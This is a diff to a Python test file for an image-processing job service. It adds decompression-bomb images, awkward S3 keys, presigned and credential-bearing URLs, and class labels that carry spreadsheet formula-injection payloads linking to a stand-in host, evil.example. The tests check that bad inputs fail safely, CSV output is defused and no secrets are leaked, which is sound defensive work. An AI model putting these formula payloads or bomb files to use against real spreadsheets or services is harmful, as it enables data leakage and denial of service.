@@ -2,23 +2,26 @@
 code and one line, the worker stays up, the good items finish; no pickle is ever run and
 no secret is ever written anywhere."""
 
+import csv
 import io
 import json
 import struct
 import uuid
 import zlib
+from urllib.parse import parse_qs, urlsplit
 
 import boto3
 import numpy as np
 import pytest
 import redis
+from botocore.config import Config
 from PIL import Image
 
 from explainctl.config import Settings
 from explainctl.jobs.queue import make_app
 from explainctl.jobs.store import JobStore
 from explainctl.spec.contracts import TASK_EXPLAIN_CHUNK
-from tests.support import cli
+from tests.support import cli, hostile
 from tests.support.reliability import audit
 from tests.support.services import RedisServer
 
@@ -45,6 +48,10 @@ def _bomb_png(width: int = 50_000, height: int = 50_000) -> bytes:
     return b"\x89PNG\r\n\x1a\n" + ihdr + idat + end
 
 
+ODD_KEYS = ["odd keys/a space.png", "odd keys/one+two.png", "odd keys/100%.png",
+            "odd keys/tag#1.png", "odd keys/what?.png", "odd keys/東京 ünï.png"]  # fmt: skip
+
+
 def _inputs(folder, bucket: str) -> tuple[list[tuple[str, str]], dict[str, str | None]]:
     """(uri, target) rows and the expected outcome of each: an error code, or None = done."""
     rng = np.random.default_rng(3)
@@ -68,6 +75,10 @@ def _inputs(folder, bucket: str) -> tuple[list[tuple[str, str]], dict[str, str |
     frames = [Image.new("RGB", (30, 30), c) for c in ("red", "green", "blue")]
     frames[0].save(gif, format="GIF", save_all=True, append_images=frames[1:])
     files["animated.gif"] = gif.getvalue()
+    files["bomb.tif"] = hostile.tiff_bomb()
+    files["bomb.gif"] = hostile.gif_bomb()
+    files["bomb.webp"] = hostile.webp_bomb()
+    files["scans.jpg"] = hostile.many_scan_jpeg()
     for name, data in files.items():
         (folder / name).write_bytes(data)
     (folder.parent / "outside.png").write_bytes(files["good.png"])
@@ -77,6 +88,8 @@ def _inputs(folder, bucket: str) -> tuple[list[tuple[str, str]], dict[str, str |
         "cmyk.jpg": None, "animated.gif": None,  # explained: the first frame
         "empty.png": "empty", "text.jpg": "unsupported-format", "truncated.png": "corrupt",
         "truncated.jpg": "corrupt", "bomb.png": "too-many-pixels", "big.png": "too-large",
+        "bomb.tif": "too-many-pixels", "bomb.gif": "too-many-pixels",
+        "bomb.webp": "too-many-pixels", "scans.jpg": "unsupported-format",
     }  # fmt: skip
     rows = [(str(folder / name), "") for name in expected]
     rows += [
@@ -100,6 +113,13 @@ def _inputs(folder, bucket: str) -> tuple[list[tuple[str, str]], dict[str, str |
         "http://localhost:6379/x.png": "blocked-address",
         "target-5000": "bad-target",
     })  # fmt: skip
+    # S3 keys that need care in a URL: spaces, "+", "%", "#", "?" and letters beyond ASCII;
+    # each is the object's name, read and explained.
+    s3 = boto3.session.Session().client("s3")
+    for key in ODD_KEYS:
+        s3.put_object(Bucket=bucket, Key=key, Body=files["good.png"])
+        rows.append((f"s3://{bucket}/{key}", ""))
+        expected[f"s3://{bucket}/{key}"] = None
     return rows, expected
 
 
@@ -130,7 +150,7 @@ def test_every_bad_input_fails_alone(tmp_path, s3_bucket, start_workers, worker_
             assert record.state == "done"
     assert seen == expected
     assert worker.process.poll() is None  # the worker stayed up through all of it
-    row = audit(store, job, "bad and hostile inputs (21 kinds)", [u for u, _ in rows],
+    row = audit(store, job, f"bad and hostile inputs ({len(rows)} kinds)", [u for u, _ in rows],
                 expected_failed=failed)  # fmt: skip
     assert row.lost == 0
 
@@ -206,19 +226,41 @@ def test_secrets_never_leave_the_environment(tmp_path, s3_bucket, start_workers,
         for n in range(3):
             Image.new("RGB", (20, 20), (n * 60, 20, 90)).save(tmp_path / "in" / f"{n}.png")
         (tmp_path / "in" / "bad.png").write_bytes(b"nope")
-        (worker,) = start_workers(1, **env)
+        # A presigned URL and one with user info: their tokens travel in the chunk message
+        # only. The S3 server is on loopback, so the worker refuses to fetch it: the item
+        # fails, and its record and error are written down all the same.
+        s3 = boto3.session.Session().client("s3", config=Config(signature_version="s3v4"))
+        s3.put_object(
+            Bucket=s3_bucket, Key="shared/cat.png", Body=_png(np.zeros((9, 9, 3), np.uint8))
+        )
+        presigned = s3.generate_presigned_url(
+            "get_object", Params={"Bucket": s3_bucket, "Key": "shared/cat.png"}, ExpiresIn=600
+        )
+        signature = parse_qs(urlsplit(presigned).query)["X-Amz-Signature"][0]
+        basic = f"https://auditor:{aws_secret}@images.example.com/dog.png"
+        inputs = [str(p) for p in sorted((tmp_path / "in").iterdir())] + [presigned, basic]
+        listing = tmp_path / "inputs.csv"
+        listing.write_text("uri,target\n" + "".join(f"{u},\n" for u in inputs))
+        # Class names that would be formulas in a spreadsheet: `results --csv` defuses them.
+        labels = tmp_path / "labels.txt"
+        labels.write_text("".join(f'=HYPERLINK("http://evil.example/{n}","c{n}")\n'
+                                  for n in range(10)))  # fmt: skip
+        (worker,) = start_workers(1, EXPLAINCTL_ALLOW_HTTP="1", **env)
         output = f"s3://{s3_bucket}/audit"
-        done = cli.run("submit", str(tmp_path / "in"), "--output", output, "--wait", "--json",
-                       *TINY, **env)  # fmt: skip
+        done = cli.run("submit", str(listing), "--output", output, "--wait", "--json",
+                       "--labels", str(labels), *TINY, **env)  # fmt: skip
         job = json.loads(done.stdout)["job_id"]
         written = [done.stdout, done.stderr, worker.log()]
         for command in (["results", job, "--json"], ["status", job, "--json"],
                         ["results", job, "--csv"], ["jobs"]):  # fmt: skip
             ran = cli.run(*command, **env)
             written += [ran.stdout, ran.stderr]
+        table = list(csv.reader(io.StringIO(cli.run("results", job, "--csv", **env).stdout)))
+        cells = [cell for row in table[1:] for cell in row]
+        assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
         cli.run("report", job, "--out", str(tmp_path / "report.html"), **env)
         written.append((tmp_path / "report.html").read_text())
-        s3 = boto3.session.Session().client("s3")
         for entry in s3.list_objects_v2(Bucket=s3_bucket, Prefix="audit/")["Contents"]:
             written.append(s3.get_object(Bucket=s3_bucket, Key=entry["Key"])["Body"].read()
                            .decode("latin-1"))  # fmt: skip
@@ -226,8 +268,11 @@ def test_secrets_never_leave_the_environment(tmp_path, s3_bucket, start_workers,
         for key in client.scan_iter("*"):  # job records and queued messages
             written.append(repr(client.dump(key)))
         assert len(written) > 20
+        assert any(f"http://{urlsplit(presigned).netloc}/{s3_bucket}/shared/cat.png" in text
+                   for text in written)  # fmt: skip  # the redacted form is what is kept
         for text in written:
             assert redis_secret not in text and aws_secret not in text
+            assert signature not in text and "X-Amz-Signature" not in text
     finally:
         server.stop()
 
